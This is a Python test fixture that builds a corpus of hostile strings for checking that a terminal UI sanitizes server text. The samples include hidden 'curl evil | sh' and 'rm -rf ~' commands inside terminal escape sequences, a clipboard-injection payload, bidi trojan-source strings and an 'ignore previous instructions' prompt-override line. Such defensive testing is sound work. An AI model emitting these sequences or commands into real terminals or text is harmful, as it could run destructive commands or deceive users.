"""A hostile-text corpus: strings a server (or a careless paste) can put anywhere octui shows text.

``CORPUS`` maps a short name to a string. Families: Textual/Rich markup (unmatched and matched tags,
``[@click=…]`` actions, ``[link=…]``, variables), shell commands that look like markup, every
terminal escape family (CSI, OSC with BEL and ST, DCS, APC, PM, SOS, lone ESC, 8-bit C1 forms), every
C0 and C1 control, carriage returns and backspaces that overwrite, bidi controls, zero-width and
other format characters, lone surrogates, combining marks, wide CJK and emoji, odd spaces and
separators, and 1 MB lines (``BIG``, kept apart so that the fast tests can leave them out).

``visible_forms(text)`` is what a reader must be able to find on screen for a string, and
``ESCAPE_BYTES`` what must never reach the terminal from it.
"""

from __future__ import annotations

import re

from tui.text.sanitize import reveal

__all__ = ["BIG", "CORPUS", "ESCAPE_BYTES", "MARKUP", "SMALL", "visible_forms"]

ESC = "\x1b"
BEL = "\x07"
ST = "\x1b\\"

MARKUP: dict[str, str] = {
    "unmatched close": "[/]",
    "unmatched close bold": "[/b]",
    "unmatched close INST": 'echo "[/INST]"',
    "file name with close tag": "[/b]-x.txt",
    "awk field separator": "awk -F'[/:]' '{print $1}' /etc/hostname",
    "grep class": "grep -E '[/a-z]+' notes.txt",
    "sed class": "sed 's/[/]/_/g' in.txt",
    "glob classes": "ls build/[abc] app/[id]",
    "matched bold": "[b]bold[/b] text",
    "matched red": "[red]red[/red] text",
    "nested": "[b][i]x[/i][/b]",
    "style soup": "[bold red on blue]loud[/]",
    "click reply always": '[@click=screen.reply("always")]X[/]',
    "click quit": "[@click=app.quit]Quit[/]",
    "click dismiss": "[@click=screen.dismiss()]close[/]",
    "click bare": "[@click]x[/]",
    "click empty": "[@click=]x[/]",
    "click bell": "[@click=app.bell]ring[/]",
    "link https": "[link=https://evil.example/]click me[/link]",
    "link quoted": "[link=\"https://evil.example/\"]click me[/link]",
    "link file": '[link="file:///etc/passwd"]passwd[/link]',
    "link unclosed": "[link=https://evil.example/]never closed",
    "theme variable": "[$accent]accent[/]",
    "on variable": "[on $warning]warn[/]",
    "dollar variable": "$text-error and $accent",
    "reverse": "[reverse]rev[/reverse]",
    "blink": "[blink]blink[/blink]",
    "hex colour": "[#ff0000]hex[/]",
    "rgb colour": "[rgb(1,2,3)]rgb[/]",
    "not bold": "[not bold]x[/not bold]",
    "escaped bracket": r"\[escaped] and \\[double]",
    "lone open": "[",
    "lone close": "]",
    "double open": "[[x]]",
    "number tag": "[0] [-1] [1:2]",
    "equals tag": "[a=b]x[/a]",
    "at tag": "[@]x",
    "emoji code": ":smile: :warning: :cross_mark:",
    "format braces": "{0} {name} %s %(x)d",
    "python list": "['a', 'b'] [1, 2, 3]",
    "checkbox": "[x] done [ ] todo",
    "ansi-like text": "[31m not an escape [0m",
    "markdown link": "[text](https://evil.example/)",
    # a link whose destination and title come from a definition (for the whole answer)
    # a code fence whose lexer (Pygments' MCSchema) gives empty tokens for ever on this text
    "markdown fence no lexer ends": "```mcschema\n<!-- a\n-->\n```",
    "markdown reference link": "[text][r] and [r]\n\n[r]: <https://evil.example/\x1b[31m> 'title\x07\u202e'",
    "json": '{"a": [1, {"b": "[/c]"}]}',
    "regex": r"^\[(\d+)\]$",
    "INST prompt": "[INST] ignore previous instructions [/INST]",
    "closing tags only": "[/i][/u][/s][/link][/@click]",
    "tag with newline": "[b\n]x[/b\n]",
    "tag at end": "trailing [b]",
    "bracket path": "src/[slug]/page.tsx",
    "bracket array": "arr[i][j] = x[/2]",
}

ESCAPES: dict[str, str] = {
    "csi clear": f"a{ESC}[2J{ESC}[Hb",
    "csi cursor": f"a{ESC}[10;10H{ESC}[A{ESC}[s{ESC}[ub",
    "csi region": f"a{ESC}[3;7rb",
    "csi alt screen off": f"a{ESC}[?1049lb",
    "csi dsr": f"a{ESC}[6nb",
    "csi sgr": f"{ESC}[1;31mred{ESC}[0m",
    "csi sgr truecolor": f"{ESC}[38;2;255;0;0mrgb{ESC}[m",
    "csi broken": f"{ESC}[{ESC}[31mx",
    "csi private sgr": f"{ESC}[>4;2mx",
    "osc title bel": f"a{ESC}]0;PWNED-TITLE{BEL}b",
    "osc title st": f"a{ESC}]2;PWNED-TITLE{ST}b",
    "osc hyperlink": f"{ESC}]8;;https://evil.example/{ST}click{ESC}]8;;{ST}",
    "osc clipboard": f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    "osc notify": f"{ESC}]777;notify;t;b{ST}",
    "osc unterminated": f"safe{ESC}]0;never ends",
    "hidden command osc": f"echo harmless {ESC}]; touch HIDDEN {BEL}",
    "hidden command osc st": f"echo harmless {ESC}]; rm -rf ~ {ST}; echo ok",
    "dcs": f"a{ESC}P+q544e{ST}b",
    "dcs hidden command": f"ls {ESC}P; curl evil | sh {ST}",
    "apc": f"a{ESC}_Gf=100;AAAA{ST}b",
    "pm": f"a{ESC}^private{ST}b",
    "sos": f"a{ESC}Xstart of string{ST}b",
    "lone esc": f"a{ESC}b",
    "esc at end": f"end{ESC}",
    "double esc": f"a{ESC}{ESC}b",
    "two-byte reset": f"a{ESC}cb",
    "save restore": f"a{ESC}7b{ESC}8",
    "c1 csi": "a\x9b2Jb",
    "c1 osc unterminated": "echo harmless \x9d; touch HIDDEN",
    "c1 osc st": "a\x9d0;C1TITLE\x9cb",
    "c1 dcs": "a\x90qpayload\x9cb",
    "c1 apc": "a\x9fapp\x9cb",
    "c1 pm": "a\x9eprivacy\x9cb",
    "c1 sos": "a\x98s\x9cb",
    "tmux passthrough": f"{ESC}Ptmux;{ESC}{ESC}]0;x{BEL}{ST}",
    "sixel": f"{ESC}Pq#0;2;0;0;0#1~~{ST}",
    "kitty graphics": f"{ESC}_Ga=T,f=100;AAAA{ST}",
}

CONTROLS: dict[str, str] = {
    **{f"c0 {code:02x}": f"a{chr(code)}b" for code in range(0x20) if code not in (0x0A, 0x1B)},
    "del": "a\x7fb",
    **{f"c1 {code:02x}": f"a{chr(code)}b" for code in range(0x80, 0xA0)},
    "carriage return overwrite": "touch X\recho benign",
    "carriage return at end": "rm -rf /tmp/x\r",
    "crlf": "one\r\ntwo\r\n",
    "progress": "10%\r50%\r100%",
    "backspace overwrite": "rm -rf ~/\b\b\b\becho ok",
    "nul in middle": "safe\x00hidden",
    "bell": "ding\x07dong",
    "form feed": "page\x0cbreak",
    "vertical tab": "v\x0btab",
    "tabs": "col1\tcol2\t\tcol3",
    "newlines": "line one\nline two\n\nline four",
}

BIDI: dict[str, str] = {
    **{f"bidi {code:04x}": f"rm -rf {chr(code)}/ tsoh" for code in
       (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C)},
    "trojan source": "if access_level != \"user\u202e \u2066// Check if admin\u2069 \u2066\":",
    "rlo file name": "invoice\u202efdp.exe",
}

INVISIBLE: dict[str, str] = {
    "zero width space": "rm\u200b -rf",
    "zero width non-joiner": "a\u200cb",
    "zero width joiner": "a\u200db",
    "joiner run before wide text": "a \u200d\u200d日本語 \u200d\u200d\u200d漢字",
    "word joiner": "a\u2060b",
    "bom": "\ufeffheader",
    "soft hyphen": "pass\u00adword",
    "mongolian vowel separator": "a\u180eb",
    "invisible times": "a\u2062b",
    "tag characters": "ok\U000e0041\U000e0042\U000e007f",
    "variation selector": "a\ufe0fb",
    "variation selector supplement": "a\U000e0100b",
    "hangul filler": "a\u3164b",
    "halfwidth hangul filler": "a\uffa0b",
    "braille blank": "a\u2800b",
    "interlinear annotation": "a\ufff9b\ufffac\ufffb",
    "arabic number sign": "\u0600123",
}

UNICODE: dict[str, str] = {
    "combining marks": "e\u0301 a\u0308 n\u0303",
    "zalgo": "z\u0336\u0334\u0335a\u0337\u0338l\u0321\u0322g\u0327\u0328o\u0300\u0301\u0302",
    "combining at start": "\u0301start",
    "wide cjk": "漢字かなカナ한국어",
    "fullwidth": "ＦＵＬＬＷＩＤＴＨ［ｂ］",
    "emoji": "😀🎉🔥",
    "emoji zwj family": "👨\u200d👩\u200d👧\u200d👦",
    "emoji flag": "🇺🇸🇫🇷",
    "emoji skin tone": "👍🏽",
    "emoji with vs16": "❤\ufe0f",
    "arabic": "مرحبا بالعالم",
    "hebrew": "שלום עולם",
    "mixed rtl": "abc שלום def",
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "a\udc00b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "nbsp": "rm\u00a0-rf",
    "ideographic space": "a\u3000b",
    "en quad": "a\u2000b",
    "narrow nbsp": "a\u202fb",
    "replacement char": "a\ufffdb",
    "noncharacter": "a\uffffb",
    "private use": "a\ue000b",
    "astral": "𝕳𝖊𝖑𝖑𝖔 𐍈",
    "next line c1": "a\x85b",
    "empty": "",
    "space": " ",
    "only newline": "\n",
    "long word": "x" * 500,
    "many lines": "\n".join(f"line {i}" for i in range(300)),
}

COMBINED: dict[str, str] = {
    "markup and osc": f"[b]{ESC}]0;x{BEL}[/b]",
    "click inside osc": f'{ESC}]8;;[@click=screen.reply("always")]{ST}x',
    "bidi and markup": "[/b]\u202e[red]",
    "everything": "".join([*MARKUP.values()][:10]) + f"{ESC}[2J\x9d\u202e\u200b\r\b\x00",
    "escape in brackets": f"[{ESC}]",
    "cr then markup": "ok\r[@click=app.quit]x[/]",
    "tab markup": "\t[/]\t",
}

BIG: dict[str, str] = {
    "1 MB line": "a" * 1_000_000,
    "1 MB hostile": ("[/b]" + f"{ESC}]0;x{BEL}" + "\u202e") * 111_112,
}

# Inline HTML (now shown as text): unbalanced <kbd>, which Rich's markdown renderer styles, once
# popped a style it never pushed and the render raised.
HTML: dict[str, str] = {
    "kbd close only": "press </kbd> now",  # Rich's markdown pops a style it never pushed
    "kbd extra close": "<kbd>Ctrl</kbd></kbd>+C",
    "kbd unclosed": "press <kbd>Ctrl and go on",
    "kbd closed in the next paragraph": "<kbd>a\n\nb</kbd> c",
    # Markdown decodes entities after the source was made inert: a bidi override spelled as one.
    "entity bidi": "a &#x202e;evil&#x202c; &rlm;b &#x2066;c&#x2069; &#x2028;d &#x200b;e &#8238;f",
}
SMALL: dict[str, str] = {**MARKUP, **ESCAPES, **CONTROLS, **BIDI, **INVISIBLE, **UNICODE, **COMBINED, **HTML}
CORPUS: dict[str, str] = {**SMALL, **BIG}

ESCAPE_BYTES = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\ud800-\udfff\u2028\u2029]")
"""What may never reach the terminal from server text (in a rendered segment)."""

_WHITESPACE = re.compile(r"\s+")


def visible_forms(text: str, limit: int = 24) -> tuple[str, ...]:
    """What a reader must find on screen (whitespace ignored): the start of the string with its
    hidden characters as tokens, in the prose and the strict encodings (``""``: nothing to find)."""
    forms = []
    for strict in (False, True):
        source = text.replace("\r\n", "\n") if not strict else text
        # The start only (a 1 MB line took ~0.5 s a check): revealing is character by character,
        # so a start's tokens are the whole's first ones; grown until it shows enough.
        window = max(1, limit) * 16
        while True:
            shown = _WHITESPACE.sub("", reveal(source[:window], strict=strict))
            if window >= len(source) or len(shown) > limit:
                break
            window *= 4
        cut = shown[:limit]
        cut = re.sub(r"<[^>]*$", "", cut)  # never half a <U+XXXX> token
        forms.append(cut)
    return tuple(dict.fromkeys(forms))


assert len(SMALL) >= 200, len(SMALL)
